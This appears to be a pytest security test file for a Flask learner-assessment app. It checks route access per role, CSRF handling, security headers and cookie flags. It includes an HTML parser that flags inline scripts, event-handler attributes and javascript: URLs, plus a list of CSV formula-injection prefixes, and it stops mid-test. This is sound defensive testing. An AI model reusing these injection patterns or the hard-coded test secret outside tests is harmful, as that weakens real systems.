"""Security tests that try to break the app (OWASP ASVS L2 where it applies).

1. the access matrix: every route x every kind of visitor x every method, against a table;
2. CSRF: every POST without a token, or with a wrong one, is refused and changes nothing; no GET
   changes the database;
3. stored XSS through every free-text field, and formula injection in every CSV export;
4. security headers and cookie flags on every response, no inline script or style, no internals
   on error pages;
5. personal links, setup links and staff sessions: stored hashed, looked up by hash, revocable;
6. property-based fuzzing of every POST route with random and malformed form data.

It builds its own apps and visitors; what every test file shares (reading a page's CSRF token,
signing in through the real form, a dump of the database) comes from tests/helpers.py.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import sqlite3
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from flask import url_for
from helpers import FAST_HASH, PASSWORD, csrf, dump, links, ready_for_contract, sign_in, with_db
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from markupsafe import escape

import survey.db
from survey import create_app
from survey.content import ANSWERS
from survey.drafts import draft_data, source_data
from survey.importer import read, source_from_text
from survey.initial_assessment import ITEM_IDS
from survey.plans import PlanRow
from survey.qualifications import served
from survey.rules import check_optional
from survey.store import accounts, drafts, learners, plans, sampling, tokens
from survey.store import workplace as workplace_store

SECRET = "security-tests-secret-key-4f1d2c9a8b7e"
VALID = ["A3", "B2", "C3", "D1"]  # a plan that meets every rule of combination
ROW = {  # an activity of an assessment plan, as the plan page's form sends it
    "planned_on": "2027-03-16",
    "observed_when": "Tuesday morning",
    "observed_where": "Front desk",
    "activity": "Greeting visitors",
    "criteria": ["F1:1.1", "F2:1.1"],
    "evidence": ["observation"],
    "observer": "assessor",
}
NEW_PASSWORD = "a different password for the test"
CSRF_WORDS = "came from somewhere else"  # the error page's words for a CSRF failure
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

UNIT_TEXT = "Unit A11\nLO1 Answer calls\n1.1 Answer calls politely\n1.2 Take a message"
# a qualification as the editor takes it (checked, not published: the files outlive a test)
NEW_QUALIFICATION = {
    "code": "TL3",
    "title": "Level 3 Certificate in Team Leading",
    "level": "3",
    "groups": "A, Mandatory, yes\nB, Optional, no",
    "units": "T1, K/1, Lead a team, 5, 3, A\nT2, K/2, Plan work, 4, 3, B",
    "rules-0-kind": "all_units",
    "rules-0-groups": "A",
    "rules-1-kind": "credits",
    "rules-1-groups": "A, B",
    "rules-1-min": "9",
}
VISITORS = ("anonymous", "learner_a", "learner_b", "assessor_a", "assessor_b", "verifier", "admin")
# a workplace contact of learner A, of learner B, one whose link was withdrawn, one expired
CONTACTS = ("workplace_a", "workplace_b", "workplace_revoked", "workplace_expired")
VISITORS += CONTACTS
STAFF_NAMES = {
    "admin": "Ada Admin",
    "assessor_a": "Asha Assessor",
    "assessor_b": "Bo Assessor",
    "verifier": "Vic Verifier",
}


# ---- the expected access table ---------------------------------------------------------------
#
# outcomes: "ok" (served, or a 2xx/3xx/4xx that is about the request, not about who asks),
# "login" (302 to /staff/login?next=...), "code" (302 to /code?next=...: a learner page asking who
# this is), "unauth" (401, the learner's background saver), "forbidden" (403), "notfound" (404)


def _row(*outcomes: str) -> dict[str, str]:
    """One outcome per visitor; given the seven who are not workplace contacts, a contact
    gets what an anonymous visitor gets (on every page that is not a workplace page, a
    contact is nobody)."""
    if len(outcomes) == len(VISITORS) - len(CONTACTS):
        outcomes += (outcomes[0],) * len(CONTACTS)
    assert len(outcomes) == len(VISITORS)
    return dict(zip(VISITORS, outcomes))


#                   anonymous  learner_a learner_b assessor_a assessor_b  verifier    admin
EVERYONE = _row("ok", "ok", "ok", "ok", "ok", "ok", "ok")
NOBODY = _row(*["notfound"] * 7)
LEARNERS = _row("code", "ok", "ok", "code", "code", "code", "code")
LEARNER_JSON = _row("unauth", "ok", "ok", "unauth", "unauth", "unauth", "unauth")
ONLY_A = _row("code", "ok", "notfound", "code", "code", "code", "code")
STAFF = _row("login", "login", "login", "ok", "ok", "ok", "ok")
STAFF_WRITE = _row("login", "login", "login", "ok", "ok", "forbidden", "ok")
READ_A = _row("login", "login", "login", "ok", "notfound", "ok", "ok")
WRITE_A = _row("login", "login", "login", "ok", "notfound", "forbidden", "ok")
ADMIN = _row("login", "login", "login", "forbidden", "forbidden", "forbidden", "ok")
ADMIN_OR_VERIFIER = _row("login", "login", "login", "forbidden", "forbidden", "ok", "ok")
# a verifier's own sampling records: assessor B does not even see learner A (404)
SAMPLE_A = _row("login", "login", "login", "forbidden", "notfound", "ok", "forbidden")
VERIFIER = _row("login", "login", "login", "forbidden", "forbidden", "ok", "forbidden")
#                 everyone else  workplace_a workplace_b revoked   expired
WORKPLACE = _row(*["unauth"] * 7, "ok", "ok", "unauth", "unauth")
ONLY_WORKPLACE_A = _row(*["unauth"] * 7, "ok", "notfound", "unauth", "unauth")

EXPECTED: dict[str, dict[str, dict[str, str]]] = {
    "public.index": {"GET": EVERYONE},
    "public.qualification_page": {"GET": EVERYONE},
    "public.unit": {"GET": EVERYONE},
    # the addresses from before several qualifications: sent on, or (a POST) handled as ever
    "legacy.unit": {"GET": EVERYONE},
    "legacy.unit_svg": {"GET": EVERYONE},
    "legacy.sheet": {"GET": EVERYONE},
    "legacy.unit_check": {"GET": EVERYONE, "POST": EVERYONE},
    "legacy.check_save_one": {"POST": EVERYONE},
    "legacy.check_result": {"GET": EVERYONE},
    "qr.unit_svg": {"GET": EVERYONE},
    "qr.sheet": {"GET": EVERYONE},
    "learner.enter": {"GET": EVERYONE},
    "learner.code": {"GET": EVERYONE, "POST": EVERYONE},
    "learner.forget": {"GET": EVERYONE, "POST": EVERYONE},
    "learner.assessment": {"GET": LEARNERS},
    "learner.welcome": {"GET": LEARNERS},
    "learner.page": {"GET": LEARNERS, "POST": LEARNERS},
    "learner.submit": {"POST": LEARNERS},
    "learner.reopen": {"POST": LEARNERS},
    "learner.save_one": {"POST": LEARNER_JSON},
    "learner.result": {"GET": LEARNERS},
    "learner.unit_check": {"GET": LEARNERS, "POST": LEARNERS},
    "learner.check_save_one": {"POST": LEARNER_JSON},
    "learner.check_result": {"GET": ONLY_A},  # learner B on learner A's check: 404
    "learner.contract": {"GET": LEARNERS, "POST": ONLY_A},  # B has no contract to sign: 404
    "learner.record": {"GET": LEARNERS},
    "learner.my_data_json": {"GET": LEARNERS},
    "learner.my_data_csv": {"GET": LEARNERS},
    "auth.login": {"GET": EVERYONE, "POST": EVERYONE},
    "auth.logout": {"POST": EVERYONE},
    "auth.setup": {"GET": NOBODY, "POST": NOBODY},  # staff exist: the setup link is spent
    "staff.home": {"GET": STAFF},
    "staff.learners": {"GET": STAFF},
    "staff.add_learner": {"POST": STAFF_WRITE},
    "staff.import_learners": {"POST": STAFF_WRITE},
    "staff.learner": {"GET": READ_A},
    "staff.confirm_reissue": {"GET": WRITE_A},  # asks first
    "staff.reissue": {"POST": WRITE_A},
    "staff.reissue_many": {"POST": WRITE_A},
    "staff.confirm_archive": {"GET": WRITE_A},
    "staff.archive": {"POST": WRITE_A},
    "staff.assign": {"POST": ADMIN},
    "staff.save_ratings": {"POST": WRITE_A},
    "staff.report_csv": {"GET": READ_A},
    "staff.plan": {"GET": READ_A, "POST": WRITE_A},
    "staff.plan_check": {"POST": READ_A},  # checks a plan without saving: verifiers may
    "staff.assessment_plan": {"GET": READ_A, "POST": WRITE_A},
    "staff.plan_row": {"GET": WRITE_A, "POST": WRITE_A},  # changing an activity: writers only
    "staff.contract": {"GET": READ_A, "POST": WRITE_A},
    "staff.learner_audit": {"GET": READ_A},
    # the prior-learning ledger and suggested evidence
    "staff.ledger": {"GET": READ_A},
    "staff.ledger_evidence": {"POST": WRITE_A},
    "staff.ledger_funding": {"POST": WRITE_A},
    "staff.ledger_decision": {"POST": WRITE_A},
    "staff.suggestions": {"GET": READ_A},
    "staff.take_suggestion": {"POST": WRITE_A},
    "staff.audit": {"GET": ADMIN_OR_VERIFIER},
    "staff.cohort": {"GET": STAFF},
    "staff.cohort_export": {"GET": STAFF},
    "staff.users": {"GET": ADMIN, "POST": ADMIN},
    "staff.disable_user": {"POST": ADMIN},
    # the learner's record, the initial-assessment conversation, the centre
    "record.learner_record": {"GET": READ_A, "POST": WRITE_A},
    "record.checklist": {"POST": WRITE_A},
    "record.introduction_page": {"GET": READ_A},
    "record.centre_page": {"GET": ADMIN, "POST": ADMIN},
    # internal verification: verifiers change nothing but their own sampling records
    "sampling.learner_sampling": {"GET": READ_A, "POST": SAMPLE_A},
    "sampling.change_sample": {"POST": VERIFIER},
    "sampling.sampling_report": {"GET": ADMIN_OR_VERIFIER},
    "sampling.sampling_csv": {"GET": ADMIN_OR_VERIFIER},
    # passwords: one's own (every member of staff), an admin's reset link, the link itself
    "auth.account": {"GET": STAFF, "POST": STAFF},
    "auth.reset_link": {"POST": ADMIN},
    "auth.reset_password": {"GET": EVERYONE, "POST": EVERYONE},
    # data protection (export, erasure)
    "staff.export_learner_json": {"GET": READ_A},
    "staff.export_learner_csv": {"GET": READ_A},
    "staff.erase_learner": {"POST": ADMIN},
    "staff.finish_erasure": {"POST": ADMIN},
    # the workplace: a contact's own pages, and the assessor's
    "workplace.enter": {"GET": EVERYONE},
    "workplace.forget": {"GET": EVERYONE, "POST": EVERYONE},
    "workplace.home": {"GET": WORKPLACE},
    "workplace.job": {"GET": WORKPLACE, "POST": WORKPLACE},
    "workplace.claims": {"GET": WORKPLACE, "POST": WORKPLACE},
    "workplace.review": {"GET": WORKPLACE},
    "workplace.send": {"POST": WORKPLACE},
    "workplace.save_one": {"POST": WORKPLACE},  # JSON 401 for anyone else
    "workplace.testimonies": {"GET": WORKPLACE},
    "workplace.testimony_new": {"GET": WORKPLACE, "POST": WORKPLACE},
    "workplace.testimony": {"GET": ONLY_WORKPLACE_A, "POST": ONLY_WORKPLACE_A},
    "workplace.contract": {"GET": WORKPLACE, "POST": ONLY_WORKPLACE_A},  # B has none to sign
    "staff_workplace.contacts": {"GET": READ_A, "POST": WRITE_A},
    "staff_workplace.testimonies": {"GET": READ_A, "POST": WRITE_A},
    "staff.plan_observation": {"POST": WRITE_A},
    # the Content pages: admins only
    "content.units": {"GET": ADMIN},
    "content.import_unit": {"POST": ADMIN},
    "content.draft": {"GET": ADMIN, "POST": ADMIN},
    "content.discard": {"POST": ADMIN},
    "content.unit": {"GET": ADMIN},
    "content.restore": {"GET": ADMIN, "POST": ADMIN},
    "staff.move_qualification": {"POST": WRITE_A},
    # the qualifications: added, changed and downloaded by admins only
    "catalogue.index": {"GET": ADMIN},
    "catalogue.new": {"GET": ADMIN, "POST": ADMIN},
    "catalogue.edit": {"GET": ADMIN, "POST": ADMIN},
    "catalogue.export": {"GET": ADMIN},
}
POST_ENDPOINTS = sorted(e for e, methods in EXPECTED.items() if "POST" in methods)
GET_ENDPOINTS = sorted(e for e, methods in EXPECTED.items() if "GET" in methods)


# ---- helpers ---------------------------------------------------------------------------------


def text(response) -> str:
    return response.get_data(as_text=True)


def outcome(response) -> str:
    status = response.status_code
    if status in (301, 302, 303, 307, 308):
        where = urlsplit(response.headers.get("Location", ""))
        if where.path == "/staff/login" and "next=" in where.query:
            return "login"
        if where.path == "/code" and "next=" in where.query:
            return "code"
        return "ok"
    if status == 400 and CSRF_WORDS in text(response):
        return "csrf-refused"
    return {401: "unauth", 403: "forbidden", 404: "notfound"}.get(
        status, "error" if status >= 500 else "ok"
    )


def personal_tokens(response) -> list[str]:
    """The tokens of the personal links a page links to, in order."""
    return [href.rsplit("/l/", 1)[1] for href in links(response) if "/l/" in href]


def changed_tables(before: dict, after: dict) -> list[str]:
    return sorted(t for t in set(before) | set(after) if before.get(t) != after.get(t))


def db_bytes(path: str | Path) -> bytes:
    """The database file and its write-ahead log, as stored on disk."""
    data = b""
    for suffix in ("", "-wal", "-journal"):
        p = Path(str(path) + suffix)
        if p.exists():
            data += p.read_bytes()
    return data


STYLESHEET = (Path(__file__).resolve().parent.parent / "static" / "style.css").read_text()
# the one inline style a page may have: our own stylesheet, allowed by this hash alone
_DIGEST = base64.b64encode(hashlib.sha256(STYLESHEET.encode()).digest()).decode()
STYLE_HASH = f"'sha256-{_DIGEST}'"


class InlineFinder(HTMLParser):
    """Finds what a strict CSP would block or what betrays markup injection."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._script = False
        self._style: list[str] | None = None
        self._styles = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name == "style":
                self.problems.append(f"style= attribute on <{tag}>")
            if re.fullmatch(r"on[a-z]+", name):
                self.problems.append(f"{name}= handler on <{tag}>")
            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
                if re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith("javascript:"):
                    self.problems.append(f"javascript: URL in <{tag} {name}>")
        if tag == "script":
            self._script = True
            if not dict(attrs).get("src"):
                self.problems.append("<script> without src")
        if tag == "style":
            self._style = []
        if tag in ("iframe", "object", "embed", "base"):
            self.problems.append(f"<{tag}> element")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = False
        if tag == "style" and self._style is not None:
            self._styles += 1
            if "".join(self._style) != STYLESHEET or self._styles > 1:
                self.problems.append("inline <style> element other than the stylesheet")
            self._style = None

    def handle_data(self, data: str) -> None:
        if self._style is not None:
            self._style.append(data)
        if self._script and data.strip():
            self.problems.append(f"inline script body {data.strip()[:40]!r}")


def inline_problems(body: str) -> list[str]:
    finder = InlineFinder()
    finder.feed(body)
    finder.close()
    return finder.problems


def header_problems(response) -> list[str]:
    problems = []
    csp = response.headers.get("Content-Security-Policy", "")
    directives = {}
    for part in csp.split(";"):
        words = part.split()
        if words:
            directives[words[0]] = words[1:]
    if directives.get("default-src") != ["'self'"]:
        problems.append(f"CSP default-src is {directives.get('default-src')}")
    if directives.get("frame-ancestors") != ["'none'"]:
        problems.append(f"CSP frame-ancestors is {directives.get('frame-ancestors')}")
    allowed = {"script-src": ["'self'"], "style-src": ["'self'", STYLE_HASH]}
    for directive, sources in allowed.items():
        if directive in directives and directives[directive] != sources:
            problems.append(f"CSP {directive} is {directives[directive]}")
    if directives.get("object-src") != ["'none'"]:
        problems.append("CSP object-src is not 'none'")
    for bad in ("unsafe-inline", "unsafe-eval", "unsafe-hashes", "*", "http:", "https:"):
        if any(bad == w.strip("'") for words in directives.values() for w in words):
            problems.append(f"CSP allows {bad}")
    if response.headers.get("X-Content-Type-Options") != "nosniff":
        problems.append("no X-Content-Type-Options: nosniff")
    if response.headers.get("Referrer-Policy") not in (
        "no-referrer",
        "same-origin",
        "strict-origin",
        "strict-origin-when-cross-origin",
    ):
        problems.append(f"Referrer-Policy is {response.headers.get('Referrer-Policy')!r}")
    if response.headers.getlist("Set-Cookie") and response.cache_control.public:
        problems.append("a response a shared cache may keep sets a cookie")
    for cookie in response.headers.getlist("Set-Cookie"):
        flags = [f.strip().lower() for f in cookie.split(";")[1:]]
        if "httponly" not in flags:
            problems.append(f"cookie without HttpOnly: {cookie[:40]}")
        if "samesite=lax" not in flags and "samesite=strict" not in flags:
            problems.append(f"cookie without SameSite=Lax: {cookie[:40]}")
    return problems


def page_problems(response) -> list[str]:
    """Headers on every response; no inline script or style in any HTML page."""
    problems = header_problems(response)
    if response.mimetype == "text/html":
        problems += inline_problems(text(response))
    if b"Traceback (most recent call last)" in response.get_data():
        problems.append("a traceback in the page")
    return problems


def new_staff(app, role: str, name: str, email: str) -> dict:
    def create(db):  # type: ignore[no-untyped-def]
        return accounts.staff_member(
            db, accounts.create_staff(db, email, name, role, FAST_HASH, "test")
        )

    return with_db(app, create)


class Visitor:
    """A test client with its own session, and the CSRF token of that session."""

    def __init__(self, app, client) -> None:
        self.app = app
        self.client = client
        self.csrf = csrf(client.get("/code"))

    def get(self, path: str, **kwargs):
        return self.client.get(path, **kwargs)

    def post(self, path: str, data: dict | None = None, **kwargs):
        return self.client.post(path, data={"csrf_token": self.csrf, **(data or {})}, **kwargs)


def staff_visitor(app, role: str, name: str, email: str) -> tuple[Visitor, dict]:
    staff = new_staff(app, role, name, email)
    client = app.test_client()
    response = sign_in(client, email)
    assert response.status_code == 302, text(response)
    return Visitor(app, client), staff


def learner_visitor(app, token: str) -> Visitor:
    client = app.test_client()
    assert client.get(f"/l/{token}").status_code == 302
    return Visitor(app, client)


# ---- the world: one app, two learners, four staff, every kind of visitor ---------------------


class World:
    def __init__(self, app, folder: Path) -> None:
        self.app = app
        self.path = app.config["DATABASE"]
        self.snapshot = str(folder / "snapshot.db")
        self.cookies: dict[str, str] = {}
        self.csrf: dict[str, str] = {}
        self.staff: dict[str, dict] = {}
        self.learner_a = self.learner_b = 0
        self.token_a = self.token_b = self.setup_token = ""
        self.check_a = self.check_b = self.row_a = self.row_b = self.sample_a = self.draft = 0
        self.reset_token = ""
        self.contact_tokens: dict[str, str] = {}
        self.contacts: dict[str, int] = {}
        self.testimony_draft = self.testimony_signed = 0

    # visitors carry only their session cookie: each request gets a new client, so a request
    # that changes the session (sign-out, a learner link) never changes the visitor
    def client(self, visitor: str):
        client = self.app.test_client()
        if visitor in self.cookies:
            client.set_cookie(self.app.config["SESSION_COOKIE_NAME"], self.cookies[visitor])
        return client

    def request(self, visitor: str, method: str, url: str, data=None, csrf: Any = True, **kw):
        client = self.client(visitor)
        if method == "GET":
            return client.get(url, **kw)
        body = dict(data or {})
        if csrf is True:
            body["csrf_token"] = self.csrf[visitor]
        elif csrf:
            body["csrf_token"] = csrf
        return client.post(url, data=body, **kw)

    def session_of(self, visitor: str) -> dict:
        serializer = self.app.session_interface.get_signing_serializer(self.app)
        return serializer.loads(self.cookies[visitor])

    def rule(self, endpoint: str):
        rules = list(self.app.url_map.iter_rules(endpoint)) if endpoint in self.endpoints() else []
        return rules[0] if rules else None

    def endpoints(self) -> set[str]:
        return {r.endpoint for r in self.app.url_map.iter_rules()}

    def params(self, endpoint: str) -> dict[str, Any]:
        values = {
            "learner_id": self.learner_a,
            "check_id": self.check_a,
            "row_id": self.row_a,
            "sample_id": self.sample_a,
            "number": "B1",
            "key": "job",
            "staff_id": self.staff["assessor_b"]["id"],
            "token": {
                "auth.setup": self.setup_token,
                "auth.reset_password": self.reset_token,
                "workplace.enter": self.contact_tokens.get("workplace_a", ""),
            }.get(endpoint, self.token_a),
            "unit": "F1",
            "testimony_id": self.testimony_draft,
            "draft_id": self.draft,
            "version": 1,
            "code": "03455",
            "fmt": "case",
        }
        rule = self.rule(endpoint)
        assert rule is not None
        unknown = set(rule.arguments) - set(values)
        assert not unknown, f"{endpoint}: no test value for URL parameter(s) {unknown}"
        return {k: values[k] for k in rule.arguments}

    def url(self, endpoint: str, **params: Any) -> str:
        with self.app.test_request_context():
            return url_for(endpoint, **{**self.params(endpoint), **params})

    def body(self, endpoint: str) -> dict[str, Any]:
        """A form that would do the route's work, were the visitor allowed and the token good."""
        return {
            "learner.code": {"code": self.token_a},
            "learner.page": {"job_role": "other", "job_role_other": "Barista", "c-writing": "yes"},
            "learner.save_one": {"name": "r-F1-1.1", "value": "3", "page": "F1-1"},
            "learner.unit_check": {"r-B1-1.1": "3", "r-B1-1.3": "1"},
            "learner.check_save_one": {"name": "r-B1-1.4", "value": "3"},
            "learner.contract": {"name": "Alex Able"},
            "auth.login": {"email": self.staff["admin"]["email"], "password": PASSWORD},
            "auth.setup": {
                "name": "New Admin",
                "email": "new.admin@centre.example",
                "password": PASSWORD,
                "confirm": PASSWORD,
            },
            "staff.add_learner": {
                "name": "Added Learner",
                "candidate_number": "X1",
                "job_role": "Chef",
            },
            "staff.import_learners": {"rows": "Imported One, 11, Chef\nImported Two, 12, Waiter"},
            "staff.assign": {"assessor": str(self.staff["assessor_b"]["id"])},
            "staff.save_ratings": {"a-F1:1.1": "1", "a-B1:1.2": "3"},
            "staff.plan": {"action": "save", "units": ["A3", "A4", "B2", "C3", "D1"]},
            "staff.plan_check": {"units": VALID},
            "staff.assessment_plan": {**ROW, "activity": "Answering the phone"},
            "staff.contract": {"action": "sign", "name": "Asha Assessor"},
            "staff.users": {
                "name": "New Staff",
                "email": "new.staff@centre.example",
                "role": "assessor",
                "password": PASSWORD,
                "confirm": PASSWORD,
            },
            "staff.erase_learner": {"confirm": "Alex Able"},
            "staff.ledger_evidence": {"ev-F1:1.1": "Unit certificate"},
            "staff.ledger_funding": {"profile": "adult-skills-2025-08"},
            "staff.ledger_decision": {"decision": "no-reduction", "reason": "Other setting"},
            "staff.take_suggestion": {"suggestion": "discussion-F1"},
            "staff.plan_row": {**ROW, "status": "cancelled", "feedback": "The shop closed"},
            "staff.reissue_many": {"learner": [str(self.learner_a)]},
            "record.learner_record": {"name": "Alex Able", "email": "alex@example.org"},
            "record.checklist": {"tick-level": "1", "on-level": "2027-01-11", "notes-level": "L2"},
            "record.centre_page": {
                "name": "Northgate Training",
                "review_frequency": "Monthly",
                "assessor_responsibilities": "Observe",
                "learner_responsibilities": "Collect evidence",
                "appeals": "Ask the verifier",
            },
            "sampling.learner_sampling": {
                "parts": ["record", "F1"],
                "decision": "agreed",
                "comment": "Sound",
            },
            "sampling.change_sample": {
                "parts": ["F1"],
                "decision": "action",
                "comment": "Redo 1.1",
            },
            "auth.account": {
                "current": PASSWORD,
                "password": NEW_PASSWORD,
                "confirm": NEW_PASSWORD,
            },
            "auth.reset_password": {"password": NEW_PASSWORD, "confirm": NEW_PASSWORD},
            "workplace.job": {"c-incoming-calls": "no", "c-face-to-face": "yes"},
            "workplace.claims": {"w-F1-1.1": "seen", "n-F1-1.1": "Every shift"},
            "workplace.save_one": {"name": "w-F1-1.2", "value": "partly"},
            "workplace.testimony_new": {"action": "save", "venue": "Front desk"},
            "workplace.testimony": {"action": "save", "venue": "Back office"},
            "workplace.contract": {"name": "Pat Manager"},
            "staff_workplace.contacts": {
                "action": "invite",
                "name": "Cara Colleague",
                "job_title": "Advisor",
                "relationship": "colleague",
                "role": "witness",
            },
            "staff.plan_observation": {"criteria": "F1:1.1"},
            "staff_workplace.testimonies": {
                "testimony": str(self.testimony_signed),
                "criteria": ["F1:1.1"],
                "decision": "accepted",
            },
            "content.import_unit": {"text": UNIT_TEXT},
            "content.draft": {"revision": "1", "action": "save", "number": "A11"},
            "content.restore": {"current": "2"},
            "staff.move_qualification": {"qualification": "03455", "reason": "Level 3 role"},
            "catalogue.new": {**NEW_QUALIFICATION, "action": "check"},
            "catalogue.edit": {**NEW_QUALIFICATION, "action": "check"},
        }.get(endpoint, {})

    def take_snapshot(self) -> None:
        with (
            closing(sqlite3.connect(self.path)) as src,
            closing(sqlite3.connect(self.snapshot)) as dst,
        ):
            src.backup(dst)

    def restore(self) -> None:
        with (
            closing(sqlite3.connect(self.snapshot)) as src,
            closing(sqlite3.connect(self.path)) as dst,
        ):
            src.backup(dst)

    def dump(self) -> dict[str, list[str]]:
        return dump(self.path)


def build_world(folder: Path) -> World:
    app = create_app(
        {
            "TESTING": True,
            "SECRET_KEY": SECRET,
            "DATABASE": str(folder / "world.db"),
            "CENTRE_CONTENT": str(folder / "centre"),
        }
    )
    w = World(app, folder)
    db = survey.db.connect(w.path)
    try:
        w.setup_token = accounts.create_setup_link(db) or ""  # made while there were no staff
        for key, name in STAFF_NAMES.items():
            role = key.split("_")[0]
            staff_id = accounts.create_staff(
                db, f"{key}@centre.example", name, role, FAST_HASH, "test"
            )
            w.staff[key] = accounts.staff_member(db, staff_id)
        a_staff, b_staff = w.staff["assessor_a"], w.staff["assessor_b"]
        w.learner_a, w.token_a = learners.create_learner(db, "Alex Able", candidate_number="A-1")
        w.learner_b, w.token_b = learners.create_learner(db, "Blake Baker", candidate_number="B-2")
        learners.assign_assessor(db, w.learner_a, a_staff["id"], "test")
        learners.assign_assessor(db, w.learner_b, b_staff["id"], "test")
        a = w.learner_a
        learners.set_job_role(db, a, "other", "Barista", "test")
        learners.save_contexts(db, a, {"face-to-face": "yes", "writing": "sometimes"}, "test")
        learners.save_ratings(db, a, {"F1:1.1": 2, "F1:1.2": 1, "B1:1.1": 0}, "test")
        learners.set_interest(db, a, "A3", True, "test")
        learners.submit(db, a, "test")
        q = served(app)
        actor = f"staff:{a_staff['id']}"
        plans.confirm_unit_plan(db, a, VALID, a_staff["id"], actor, lambda u: check_optional(q, u))
        row = PlanRow(**{k: tuple(v) if isinstance(v, list) else v for k, v in ROW.items()})
        w.row_a = plans.add_plan_row(db, a, row, a_staff["id"], "test")
        w.row_b = plans.add_plan_row(db, w.learner_b, row, b_staff["id"], "test")
        learners.save_ratings(db, w.learner_b, {"F1:1.1": 1}, "test")
        # what a contract needs: the programme's dates and the conversation, every point ticked
        dates = {"start_on": "2027-01-11", "planned_end_on": "2027-09-30"}
        learners.update_record(db, a, dates, actor)
        points = {i: (True, "2027-01-11", "Agreed") for i in ITEM_IDS}
        plans.save_checklist(db, a, points, a_staff["id"], actor)
        verifier = w.staff["verifier"]
        w.sample_a = sampling.add_sample(
            db, a, verifier["id"], ["record"], "Fine", "agreed", f"staff:{verifier['id']}"
        )
        w.reset_token, _ = accounts.create_password_reset(db, w.staff["assessor_b"]["id"], "test")
        # a unit draft read from a specification, and B1 published once by the centre
        reading = read(source_from_text(UNIT_TEXT), served(app))
        (w.draft,), _ = drafts.add_import(
            db,
            "03455",
            source_data(reading.source),
            [(d.name, draft_data(d)) for d in reading.units],
            w.staff["admin"]["id"],
        )
        shipped_b1 = (Path(app.config["CONTENT"]) / "units" / "B1.toml").read_text()
        app.extensions["library"].publish_unit("03455", shipped_b1, "test", "checked")
    finally:
        db.conn.close()
    # learner A and learner B each finish a self-check of B1 through the real pages
    for token in (w.token_a, w.token_b):
        learner = learner_visitor(app, token)
        response = learner.post("/q/03455/check/B1", {"r-B1-1.1": "2", "r-B1-1.2": "3"})
        assert response.status_code == 303, text(response)
        check_id = int(response.headers["Location"].rsplit("/", 1)[1])
        if token == w.token_a:
            w.check_a = check_id
        else:
            w.check_b = check_id
    # assessor A prepares learner A's learning contract
    assessor = app.test_client()
    assert sign_in(assessor, w.staff["assessor_a"]["email"]).status_code == 302
    response = Visitor(app, assessor).post(
        f"/staff/learners/{w.learner_a}/contract", {"action": "issue"}
    )
    assert response.status_code == 303
    # workplace contacts: of A (with a draft and a signed testimony), of B, and two of A's
    # whose links stop once their phones have opened them
    db = survey.db.connect(w.path)
    try:
        for visitor, learner_id in (
            ("workplace_a", w.learner_a),
            ("workplace_b", w.learner_b),
            ("workplace_revoked", w.learner_a),
            ("workplace_expired", w.learner_a),
        ):
            new = workplace_store.NewContact(f"Pat {visitor}", "Manager", "line-manager")
            row, token, _ = workplace_store.invite(db, learner_id, new, None, "test", 90)
            w.contacts[visitor], w.contact_tokens[visitor] = row["id"], token
        works = lambda row: True  # noqa: E731
        a = w.contacts["workplace_a"]
        w.testimony_draft = workplace_store.keep_testimony(db, a, None, {"venue": "Till"}, works)
        w.testimony_signed = workplace_store.keep_testimony(
            db, a, None, {"venue": "Desk", "description": "Served a customer"}, works,
            signature=("Pat Manager", "2026-01-05"),
        )  # fmt: skip
        # A says "on my own" to F1 1.1; their manager has not seen it: an observation to plan
        not_seen = workplace_store.ContactAnswers(ratings={"F1:1.1": "not-yet"})
        workplace_store.keep_answers(db, a, not_seen, works)
    finally:
        db.conn.close()
    # every kind of visitor: a session cookie and its CSRF token
    name = app.config["SESSION_COOKIE_NAME"]
    for visitor in VISITORS:
        client = app.test_client()
        if visitor in w.staff:
            assert sign_in(client, w.staff[visitor]["email"]).status_code == 302
        elif visitor == "learner_a":
            assert client.get(f"/l/{w.token_a}").status_code == 302
        elif visitor == "learner_b":
            assert client.get(f"/l/{w.token_b}").status_code == 302
        elif visitor in CONTACTS:
            assert client.get(f"/w/{w.contact_tokens[visitor]}").status_code == 302
        w.csrf[visitor] = csrf(client.get("/code"))
        cookie = client.get_cookie(name)
        assert cookie is not None
        w.cookies[visitor] = cookie.value
    db = survey.db.connect(w.path)
    try:
        workplace_store.revoke(db, w.learner_a, w.contacts["workplace_revoked"], "test")
        db.execute(
            "UPDATE workplace_contacts SET expires_at = '2000-01-01T00:00:00+00:00' WHERE id = ?",
            [w.contacts["workplace_expired"]],
        )
    finally:
        db.conn.close()
    w.take_snapshot()
    return w


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> World:
    return build_world(tmp_path_factory.mktemp("security"))


@pytest.fixture
def w(world: World):
    """The shared world, put back as it was after the test."""
    world.restore()
    yield world
    world.restore()


# ---- 1. the access matrix --------------------------------------------------------------------


def test_every_route_is_in_the_expected_access_table(world):
    missing, methods = [], []
    for rule in world.app.url_map.iter_rules():
        if rule.endpoint == "static":
            continue
        allowed = sorted((rule.methods or set()) - {"HEAD", "OPTIONS"})
        if rule.endpoint not in EXPECTED:
            missing.append(f"{rule.endpoint} {rule.rule} {allowed}")
        elif sorted(EXPECTED[rule.endpoint]) != allowed:
            methods.append(f"{rule.endpoint}: the table has {sorted(EXPECTED[rule.endpoint])}")
    assert not missing, "routes missing from the access table (add them): " + "; ".join(missing)
    assert not methods, "methods differ from the access table: " + "; ".join(methods)


@pytest.mark.parametrize("endpoint", sorted(EXPECTED))
def test_access_matrix(w, endpoint):
    """Every visitor x method on this route gets the expected answer; refused or read-only
    requests change nothing; every response carries the security headers."""
    rule = w.rule(endpoint)
    if rule is None:
        pytest.skip(f"{endpoint} does not exist yet")
    failures = []
    url = w.url(endpoint)
    for method in sorted(EXPECTED[endpoint]):
        for visitor in VISITORS:
            expected = EXPECTED[endpoint][method][visitor]
            before = w.dump()
            response = w.request(visitor, method, url, w.body(endpoint))
            got = outcome(response)
            where = f"{method} {url} as {visitor}"
            if got != expected:
                failures.append(
                    f"{where}: expected {expected}, got {got} ({response.status_code} "
                    f"{response.headers.get('Location', '')})"
                )
